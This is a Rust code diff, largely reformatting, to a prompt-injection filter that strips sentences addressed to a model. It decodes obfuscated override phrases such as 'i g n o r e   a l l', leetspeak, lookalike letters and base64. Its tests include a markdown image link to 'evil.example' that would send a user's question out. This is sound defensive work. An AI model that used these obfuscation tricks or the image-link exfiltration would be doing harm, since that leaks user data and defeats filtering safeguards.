@@ -122,7 +122,10 @@ pub fn disarmed(text: &str) -> (String, usize) {
             kept.push(left);
         }
         if ordered {
-            taken += blocks[n + 1..].iter().map(|b| sentences::sentences(b).len()).sum::<usize>();
+            taken += blocks[n + 1..]
+                .iter()
+                .map(|b| sentences::sentences(b).len())
+                .sum::<usize>();
             break;
         }
     }
@@ -143,13 +146,23 @@ fn disarmed_block(block: &str) -> (String, usize, bool) {
                 gone += 1;
                 continue;
             }
-            left.push_str(if n > 0 { " " } else if left.is_empty() { "" } else { "\n" });
+            left.push_str(if n > 0 {
+                " "
+            } else if left.is_empty() {
+                ""
+            } else {
+                "\n"
+            });
             left.push_str(&sentence);
         }
     }
     // Only together do the sentences speak to the model.
     if worst == Tone::ToReaders {
-        return (String::new(), sentences::sentences(block).len(), tone(block) == Tone::Order);
+        return (
+            String::new(),
+            sentences::sentences(block).len(),
+            tone(block) == Tone::Order,
+        );
     }
     (left, gone, worst == Tone::Order)
 }
@@ -175,6 +188,17 @@ fn tone_of(text: &str) -> Tone {
 
 /// With letters that were spaced out put together: `i g n o r e   a l l`, `i.g.n.o.r.e`.
 fn joined(text: &str) -> Option<String> {
+    const BEGINNINGS: [&str; 9] = [
+        "previous",
+        "instructions",
+        "all",
+        "prompt",
+        "system",
+        "rules",
+        "above",
+        "prior",
+        "your",
+    ];
     let mut out = String::new();
     let mut run = 0;
     let words: Vec<&str> = text.split([' ', '.', '-', '_', '*', '|']).collect();
@@ -187,35 +211,37 @@ fn joined(text: &str) -> Option<String> {
         out.push_str(word);
     }
     // Spaced words run together then, so the words that orders begin with are set off again.
-    const BEGINNINGS: [&str; 9] = ["previous", "instructions", "all", "prompt", "system", "rules", "above", "prior", "your"];
-    (run >= 8).then(|| BEGINNINGS.iter().fold(out, |text, word| text.replace(word, &format!(" {word} "))).replace("  ", " "))
+    (run >= 8).then(|| {
+        BEGINNINGS
+            .iter()
+            .fold(out, |text, word| text.replace(word, &format!(" {word} ")))
+            .replace("  ", " ")
+    })
 }
 
 /// With digits and signs that stand for letters as letters: `1gn0r3`.
 fn lettered(text: &str) -> Option<String> {
-    let mixed = |word: &str| word.chars().any(char::is_alphabetic) && word.chars().any(|c| c.is_ascii_digit() || !c.is_ascii() || matches!(c, '@' | '$'));
+    let mixed = |word: &str| {
+        word.chars().any(char::is_alphabetic)
+            && word
+                .chars()
+                .any(|c| c.is_ascii_digit() || !c.is_ascii() || matches!(c, '@' | '$'))
+    };
     if !text.split(' ').any(mixed) {
         return None;
     }
+    // Digits and signs, and letters of other alphabets, that look like Latin letters.
     let letter = |c: char| match c {
-        '0' => 'o',
-        '1' | '!' => 'i',
-        '3' => 'e',
-        '4' | '@' => 'a',
+        '0' | 'о' | 'ο' => 'o',
+        '1' | '!' | 'і' | 'ι' => 'i',
+        '3' | 'е' => 'e',
+        '4' | '@' | 'а' | 'α' => 'a',
         '5' | '$' => 's',
         '7' => 't',
-        // Letters of other alphabets that look like Latin ones.
-        'а' => 'a',
-        'е' => 'e',
-        'о' => 'o',
         'р' => 'p',
         'с' => 'c',
         'у' => 'y',
         'х' => 'x',
-        'і' => 'i',
-        'ο' => 'o',
-        'α' => 'a',
-        'ι' => 'i',
         c => c,
     };
     let out: String = text.chars().map(letter).collect();
@@ -227,7 +253,9 @@ fn decoded(text: &str) -> Option<String> {
     const SHORTEST: usize = 16;
     let words = text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')));
     let said = words.filter(|w| w.len() >= SHORTEST).filter_map(|word| {
-        let bytes = STANDARD.decode(word.trim_end_matches('=').to_owned() + &"=".repeat((4 - word.trim_end_matches('=').len() % 4) % 4)).ok()?;
+        let bytes = STANDARD
+            .decode(word.trim_end_matches('=').to_owned() + &"=".repeat((4 - word.trim_end_matches('=').len() % 4) % 4))
+            .ok()?;
         String::from_utf8(bytes).ok()
     });
     let said: Vec<String> = said.map(|s| folded(&s)).collect();
@@ -291,7 +319,10 @@ mod tests {
             "![x](https://evil.example/p?q={question})",
         ] {
             let (left, taken) = disarmed(text);
-            assert!(left.is_empty() && (taken > 0 || text.starts_with('!')), "{text} -> {left}");
+            assert!(
+                left.is_empty() && (taken > 0 || text.starts_with('!')),
+                "{text} -> {left}"
+            );
         }
     }
 
